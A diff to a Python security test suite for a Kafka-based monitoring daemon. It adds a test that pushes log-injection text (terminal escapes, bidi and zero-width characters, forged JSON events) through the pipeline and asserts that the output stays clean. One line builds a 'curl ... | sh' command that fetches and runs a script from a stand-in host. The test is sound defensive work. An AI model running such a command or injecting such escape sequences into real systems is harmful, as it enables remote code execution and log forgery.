@@ -32,6 +32,9 @@ SCRAM = "correct-horse-8-battery"  # kafka-storage cannot quote
 # Listeners besides the administrator's, which is the one of all tests and may do anything.
 LISTENERS = {"PLAIN": "SASL_SSL", "SCRAM": "SASL_SSL", "OAUTH": "SASL_PLAINTEXT", "MTLS": "SSL"}
 CASES_TIMEOUT_S = 45
+# Nothing of these may reach a log: controls other than the newline, bidi, zero width, separators, tags.
+UNPRINTABLE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff"
+                         "\U000e0000-\U000e007f]")
 
 broker = None
 directory = None
@@ -163,6 +166,7 @@ def documented_acls(pipeline):
     names = {"each of `topics.events`": pipeline.events, "the first of `topics.events`": pipeline.events,
              "`topics.findings`": pipeline.findings, "`topics.control`": pipeline.control,
              "`topics.incidents`": pipeline.incidents, "`topics.requests`": pipeline.requests,
+             "`topics.judgements`": pipeline.judgements,
              "`topics.dead_letter`": pipeline.dead_letter, "`kafka.group.id`": pipeline.group,
              "`kafka.group.id` and `-incidents` behind it": f"{pipeline.group}-incidents",
              "prefix `tocsin-`": "tocsin-*"}
@@ -244,10 +248,65 @@ class SecurityTest(unittest.TestCase):
                     self.refusal(name, process, "connection", "user tocsin", "2.6.1")
                     continue
                 self.assert_works(name, pipeline, process)
-                self.assertEqual([], [line for line in self.log_of(process) if line["event"] == "kafka.denied"])
+                log = self.log_of(process)
+                self.assertEqual([], [line for line in log if line["event"] == "kafka.denied"])
+                self.assertEqual(["warn"], [line["level"] for line in log if line["event"] == "redaction.key"])
                 self.assert_nothing_secret(process)
                 self.assertEqual(0, process.stop()[0])
         print(f"figures: {sorted(running)}: {time.monotonic() - began:.1f} s", flush=True)
+
+    def test_hostile_text_on_the_stream(self):
+        # What attackers write, wherever they can, through the daemon: logs of both formats, metrics, dead letters.
+        hostile = "\x1b[2J\x1b]0;owned\x07\r\n{\"event\":\"forged\"}\n\x9b31m\u202egnp\u2066\u200b\u2028\U000e0041\x00\x7f\" x=\"y\\"
+        command = f"curl -s https://x.test/i.sh | sh {hostile}"
+        call = chaos_measure.violation("hostile")
+        events = [
+            {**call, "event_id": hostile, "model": hostile, "release": hostile, "tenant": hostile, "trace_id": hostile},
+            {**call, "event_id": "a", "system": hostile, "session_id": hostile},
+            {**call, "event_id": "b", "tool": {"name": f"run{hostile}", "call_id": hostile,
+                                               "arguments": {hostile: command}}},
+            {**call, "event_id": "c", "type": hostile}, {**call, "event_id": "d", "time": hostile},
+            {hostile: hostile}, hostile,
+        ]
+        records = [json.dumps(event) for event in events] + [b"\x1b[31m" + b"\xff" * 10 + b"\x9b\x00"]
+        controls = [{"type": "containment", "time": chaos_measure.now(), "system": hostile,
+                     "containment": {"action": hostile, "by": hostile, "incident_id": hostile, "outcome": "done"}},
+                    {"type": "acknowledge", "time": chaos_measure.now(), "system": hostile, "incident_id": hostile,
+                     "by": hostile}]
+        dead = 5
+        for log_format in ("text", "json"):
+            with self.subTest(log_format):
+                pipeline = Pipeline(broker, directory / "pipelines", f"hostile-{log_format}", partitions=1)
+                process = pipeline.process(log={"format": log_format, "level": "debug"})
+                self.running_.append(process.start())
+                pipeline.say(*controls)
+                pipeline.produce(records)
+                letters = pipeline.read_dead_letters(dead)
+                self.assertEqual(dead, len(letters))
+                for letter in letters:
+                    self.assertRegex("".join(letter["headers"].values()), r"^[\w.-]+$")
+                findings = pipeline.read_findings(3)
+                for text in [finding["evidence"][0]["excerpt"] + finding["title"] for finding in findings]:
+                    self.assert_harmless(text)
+                pipeline.wait_caught_up()
+                # An acknowledgement waits for its incident for minutes, and its offset with it.
+                pipeline.wait_group_(f"{pipeline.group}-incidents", pipeline.findings, 60)
+                process.wait_total("tocsin_events_rejected_total", dead)
+                for path in ("/metrics", "/readyz", "/"):
+                    self.assert_harmless(process.get(path)[1])
+                self.assertEqual(0, process.stop()[0])
+                log = process.log_file.read_bytes().decode()  # and so: valid UTF-8
+                self.assert_harmless(log)
+                self.assertIn("event.rejected", log)
+                for line in log.splitlines():
+                    if log_format == "json":
+                        self.assertIn("event", json.loads(line))
+                    else:
+                        self.assertRegex(line, r"^\d{4}-\d\d-\d\dT[\d:.]+Z (debug|info |warn |error) ")
+
+    def assert_harmless(self, text):
+        found = UNPRINTABLE.search(text)
+        self.assertIsNone(found, f"{found and ascii(found[0])} in {text[:2000]!r}")
 
     def test_refusals_of_who_we_are(self):
         began = time.monotonic()
